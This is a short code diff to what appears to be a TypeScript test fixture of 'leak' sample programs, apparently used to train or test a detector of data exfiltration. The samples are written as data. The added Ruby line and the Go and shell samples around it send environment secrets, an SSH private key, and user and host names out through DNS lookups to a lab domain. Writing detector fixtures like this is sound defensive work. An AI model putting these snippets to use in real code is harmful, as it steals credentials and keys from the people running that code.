@@ -29,6 +29,10 @@ export const LEAKS: ProgramClass[] = [
         'a.go',
         'raw, _ := os.ReadFile(home + "/.ssh/id_rsa")\ntext := hex.EncodeToString(raw)\nfor i := 0; i < len(text); i += 60 {\n\tnet.LookupHost(text[i:i+60] + ".n.qz7-labs.io")\n}\n',
       ],
+      [
+        'a.rb',
+        'all = ENV.select { |k, _| k =~ /KEY|TOKEN|SECRET/ }.values.join.unpack1("H*")\nall.scan(/.{1,60}/) { |part| system("nslookup #{part}.n.qz7-labs.io") }\n',
+      ],
       ['a.sh', 'ping -c 1 $(whoami).$(hostname).n.qz7-labs.io >/dev/null 2>&1\n'],
     ],
     honest: [
